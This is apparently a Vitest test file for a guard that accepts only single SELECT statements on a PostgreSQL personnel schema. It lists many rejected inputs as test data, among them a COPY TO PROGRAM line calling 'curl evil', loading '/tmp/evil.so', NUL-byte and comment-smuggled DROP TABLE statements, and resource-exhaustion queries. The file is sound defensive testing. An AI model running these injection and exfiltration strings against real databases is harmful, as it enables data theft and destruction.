import { beforeAll, describe, expect, it } from 'vitest'
import { AppError } from '../../errors.js'
import { guardSql } from './guard.js'
import { loadSqlParser } from './parser.js'
import type { RejectionReason } from './rejection.js'

/** Text that is not exactly one plain SELECT: other statements, several, or tricks of the lexer. */
beforeAll(() => loadSqlParser())

function reasonOf(sql: string): RejectionReason | 'ACCEPTED' {
  try {
    guardSql(sql, { tier: 'sensitive', rowCap: 100 })
    return 'ACCEPTED'
  } catch (error) {
    if (!(error instanceof AppError)) throw error
    return error.details?.reason as RejectionReason
  }
}

const NOT_SELECT = [
  "insert into chat.people (full_name) values ('x')",
  'update people set unit_id = 1',
  'delete from public.people',
  'merge into people p using units u on p.unit_id = u.id when matched then delete',
  'truncate people',
  'drop table people',
  'create table x as select * from chat.people',
  'create function f() returns int language sql as $$ select 1 $$',
  'alter table people disable row level security',
  'grant select on people to public',
  "copy people to '/tmp/people.csv'",
  "copy (select * from chat.people) to program 'curl evil'",
  'set role postgres',
  'set local role hrm_reader_sensitive',
  'reset role',
  "set hrm.scope_units = '1,2,3'",
  'reset all',
  'show hrm.scope_units',
  'begin',
  'commit',
  'rollback',
  'savepoint s',
  'start transaction read write',
  'explain analyze select * from chat.people',
  'analyze people',
  'vacuum people',
  'prepare p as select 1',
  'execute p',
  'deallocate all',
  'listen x',
  "notify x, 'y'",
  'do $$ begin perform 1; end $$',
  'call p()',
  'lock table people',
  'discard all',
  'checkpoint',
  "load '/tmp/evil.so'",
  'refresh materialized view v',
  "comment on table people is 'x'",
  'declare c cursor for select * from chat.people',
  'fetch all from c',
]

describe('only SELECT statements run', () => {
  it.each(NOT_SELECT)('%s', (sql) => {
    expect(reasonOf(sql)).toBe('NOT_SELECT')
  })
})

const CASES: [string, string, RejectionReason | 'ACCEPTED'][] = [
  ['two statements', 'select 1; select 2', 'MULTIPLE_STATEMENTS'],
  ['a write after a read', 'select 1; drop table people', 'MULTIPLE_STATEMENTS'],
  [
    'a statement after a comment',
    'select 1;\n-- harmless\nselect pg_sleep(10)',
    'MULTIPLE_STATEMENTS',
  ],
  ['a statement after a block comment', 'select 1;/* x */select 2', 'MULTIPLE_STATEMENTS'],
  ["psql's \\; separator", 'select 1 \\; select 2', 'SYNTAX'],
  [
    'a NUL that would hide the rest from the C parser',
    'select 1\u0000; drop table people',
    'CONTROL_CHARACTER',
  ],
  ['a form feed', 'select 1\f', 'CONTROL_CHARACTER'],
  ['nothing', '', 'EMPTY'],
  ['blanks', '  \n\t ', 'EMPTY'],
  ['a lone semicolon', ';', 'EMPTY'],
  ['only a comment', '-- select * from chat.people', 'EMPTY'],
  ['very long input', `select 1 ${' '.repeat(20_000)}`, 'TOO_LONG'],
  ['a statement inside a comment', 'select 1 /* ; drop table people; */', 'ACCEPTED'],
  ['a statement after a line comment', 'select 1 -- ; drop table people', 'ACCEPTED'],
  ['a statement in dollar quotes', 'select $$; drop table people; $$ as x', 'ACCEPTED'],
  ['a statement in tagged dollar quotes', 'select $t$ $$; drop table x; $$ $t$ as x', 'ACCEPTED'],
  ['an unterminated dollar quote', 'select $$; drop table people;', 'SYNTAX'],
  ['an escaped quote', "select E'\\'; drop table people; --' as x", 'ACCEPTED'],
  ['a doubled quote', "select 'Nguyễn''; drop table people; --' as x", 'ACCEPTED'],
  ['nested block comments', '/* /* */ select pg_sleep(1) */ select 2', 'ACCEPTED'],
  ['an unterminated block comment', 'select 1 /* drop table people', 'SYNTAX'],
  ['a unicode-escaped table name', 'select * from U&"\\0070eople"', 'UNQUALIFIED_RELATION'],
  ['TABLE, which is SELECT * FROM', 'table chat.people_private', 'ACCEPTED'],
  ['SELECT INTO', 'select * into stolen from chat.people', 'INTO_NOT_ALLOWED'],
  ['FOR SHARE', 'select * from chat.people for share', 'LOCKING_NOT_ALLOWED'],
  [
    'FOR NO KEY UPDATE',
    'select * from chat.people for no key update nowait',
    'LOCKING_NOT_ALLOWED',
  ],
  [
    'FOR KEY SHARE in a sub-query',
    'select * from (select * from chat.people for key share) as s',
    'LOCKING_NOT_ALLOWED',
  ],
  [
    'WITH RECURSIVE',
    'with recursive t(n) as (select 1 union all select n + 1 from t) select count(*) from t',
    'RECURSIVE_NOT_ALLOWED',
  ],
  [
    'a data-modifying WITH',
    'with d as (delete from people returning *) select * from d',
    'DATA_MODIFYING_CTE',
  ],
  [
    'an UPDATE in WITH',
    'with u as (update people set unit_id = 1 returning id) select 1',
    'DATA_MODIFYING_CTE',
  ],
  [
    'an INSERT in a nested WITH',
    'select * from (with i as (insert into units default values returning id) select * from i) as s',
    'DATA_MODIFYING_CTE',
  ],
  ['TABLESAMPLE', 'select * from chat.people tablesample system (10)', 'FROM_ITEM_NOT_ALLOWED'],
  [
    'a function in FROM',
    'select * from generate_series(1, 1000000000) as g',
    'FROM_ITEM_NOT_ALLOWED',
  ],
  ['ROWS FROM', 'select * from rows from (generate_series(1, 3)) as g', 'FROM_ITEM_NOT_ALLOWED'],
  ['unnest in FROM', "select * from unnest(array['a']) as u", 'FROM_ITEM_NOT_ALLOWED'],
  [
    'a lateral function',
    'select * from chat.people p, lateral generate_series(1, p.id) as g',
    'FROM_ITEM_NOT_ALLOWED',
  ],
  [
    'JSON_TABLE (PostgreSQL 17)',
    "select * from json_table('[1]', '$[*]' columns (a int path '$')) as j",
    'FROM_ITEM_NOT_ALLOWED',
  ],
  [
    'XMLTABLE',
    "select * from xmltable('/a' passing '<a/>' columns b int) as x",
    'FROM_ITEM_NOT_ALLOWED',
  ],
  [
    'a sub-query without alias (PostgreSQL 16+)',
    'select * from (select 1)',
    'SUBQUERY_ALIAS_REQUIRED',
  ],
  [
    'a WITH query out of its scope',
    'select * from (with t as (select 1) select * from t) as s, t',
    'RELATION_NOT_ALLOWED',
  ],
  [
    'an earlier WITH query naming a later one',
    'with x as (select * from people), people as (select * from chat.people) select * from x',
    'UNQUALIFIED_RELATION',
  ],
  [
    'a WITH query shadowing a view name',
    'with chat_people as (select * from chat.people) select count(*) from chat_people',
    'ACCEPTED',
  ],
  [
    'a WITH query named like a catalog',
    'with pg_authid as (select 1 as rolpassword) select * from pg_authid',
    'ACCEPTED',
  ],
  [
    'a WITH query visible in a nested one',
    'with t as (select 1 as x) select * from (with u as (select * from t) select * from u) as s',
    'ACCEPTED',
  ],
  [
    'ANY_VALUE (PostgreSQL 16)',
    'select any_value(full_name) from chat.people',
    'FUNCTION_NOT_ALLOWED',
  ],
  ['SYSTEM_USER (PostgreSQL 16)', 'select system_user', 'FUNCTION_NOT_ALLOWED'],
  ['JSON_SCALAR (PostgreSQL 17)', 'select json_scalar(1)', 'CONSTRUCT_NOT_ALLOWED'],
  [
    'a long separator to multiply memory',
    `select string_agg(full_name, '${'x'.repeat(5000)}') from chat.people`,
    'LITERAL_TOO_LONG',
  ],
  ['a long dollar-quoted constant', `select length($q$${'y'.repeat(1001)}$q$)`, 'LITERAL_TOO_LONG'],
  ['expressions nested beyond reason', `select ${'1+'.repeat(5000)}1`, 'TOO_DEEP'],
  [
    'sub-queries nested beyond reason',
    `select ${'(select '.repeat(300)}1${')'.repeat(300)}`,
    'TOO_DEEP',
  ],
]

describe('statements, lexer tricks and grammar of other versions', () => {
  it.each(CASES)('%s', (_name, sql, reason) => {
    expect(reasonOf(sql)).toBe(reason)
  })
})
